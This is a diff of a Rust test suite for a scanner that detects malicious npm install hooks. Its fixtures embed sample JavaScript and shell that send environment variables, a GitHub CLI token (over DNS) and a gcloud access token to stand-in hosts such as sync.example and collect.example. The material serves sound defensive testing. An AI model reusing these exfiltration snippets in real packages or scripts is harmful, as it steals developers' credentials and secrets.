@@ -925,12 +925,9 @@ fn inline_node_code_of_a_postinstall_sending_the_environment_is_critical() {
 // Code a file hands to a node it starts (`spawn(process.execPath, ['-e', CODE])`), walked
 // as the file's own.
 
-#[test]
-fn a_detached_node_given_code_that_sends_the_environment_is_the_install_scripts_doing() {
-    let install = r#"const { spawn } = require('child_process');
-const payload = "setTimeout(() => { const r = require('https').request({ host: 'sync.example', method: 'POST' }); r.end(JSON.stringify(process.env)); }, 3000)";
-spawn(process.execPath, ['-e', payload], { detached: true, stdio: 'ignore' }).unref();
-"#;
+/// The DSCA801 findings of a postinstall running `install.js`, after checking the worst
+/// is critical.
+fn critical_exfiltration_at_install(install: &str) -> Vec<Finding> {
     let fixture = hooked("node install.js", &[("install.js", install)]);
     let findings = fixture.code_findings("DSCA801");
     assert_eq!(
@@ -938,6 +935,16 @@ spawn(process.execPath, ['-e', payload], { detached: true, stdio: 'ignore' }).un
         Some(Severity::Critical),
         "{findings:#?}"
     );
+    findings
+}
+
+#[test]
+fn a_detached_node_given_code_that_sends_the_environment_is_the_install_scripts_doing() {
+    let install = r#"const { spawn } = require('child_process');
+const payload = "setTimeout(() => { const r = require('https').request({ host: 'sync.example', method: 'POST' }); r.end(JSON.stringify(process.env)); }, 3000)";
+spawn(process.execPath, ['-e', payload], { detached: true, stdio: 'ignore' }).unref();
+"#;
+    let findings = critical_exfiltration_at_install(install);
     // Found on the line that starts the process.
     assert!(
         findings[0]
@@ -952,11 +959,7 @@ spawn(process.execPath, ['-e', payload], { detached: true, stdio: 'ignore' }).un
 fn exec_of_a_node_command_line_with_inline_code_is_walked_too() {
     let install = r#"require('child_process').execSync(`node -e "require('https').get('https://c.example/x?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64'))"`);
 "#;
-    let fixture = hooked("node install.js", &[("install.js", install)]);
-    assert_eq!(
-        severity_of(&fixture.code_findings("DSCA801")),
-        Some(Severity::Critical)
-    );
+    critical_exfiltration_at_install(install);
 }
 
 #[test]
@@ -968,6 +971,52 @@ require('fs').writeFileSync('build/include.txt', include);
     let fixture = hooked("node install.js", &[("install.js", install)]);
     assert!(
         highest(&fixture) <= Some(Severity::Low),
+        "{:#?}",
+        fixture.analyse_code().findings
+    );
+}
+
+// Commands that print a credential (`gh auth token`, cloud CLIs, the keychain) are
+// secrets read, from JavaScript as from a shell script.
+
+#[test]
+fn the_github_clis_token_sent_out_over_dns_at_install_is_critical() {
+    let install = r#"const { execSync } = require('child_process');
+let token = '';
+try { token = execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch (e) {}
+require('dns').resolveTxt(Buffer.from(token).toString('hex').slice(0, 60) + '.t.oob-check.example', () => {});
+"#;
+    let findings = critical_exfiltration_at_install(install);
+    assert!(
+        findings[0]
+            .evidence
+            .iter()
+            .any(|e| e.detail.contains("gh auth token")),
+        "{findings:#?}"
+    );
+}
+
+#[test]
+fn a_shell_script_piping_a_cloud_token_to_curl_is_critical() {
+    let script = "#!/bin/sh\nT=$(gcloud auth print-access-token 2>/dev/null)\ncurl -s -d \"t=$T\" https://collect.example/g\n";
+    let fixture = hooked("sh setup.sh", &[("setup.sh", script)]);
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA801")),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn a_release_script_checking_the_github_login_is_no_theft() {
+    // `gh auth status` says whether one is logged in; it prints no token.
+    let install = r#"const { execSync } = require('child_process');
+const status = execSync('gh auth status').toString();
+require('https').get('https://api.github.com/repos/acme/tool/releases/latest', { headers: { 'user-agent': 'tool' } }, (res) => res.resume());
+console.log(status);
+"#;
+    let fixture = hooked("node install.js", &[("install.js", install)]);
+    assert!(
+        severity_of(&fixture.code_findings("DSCA801")) < Some(Severity::Critical),
         "{:#?}",
         fixture.analyse_code().findings
     );
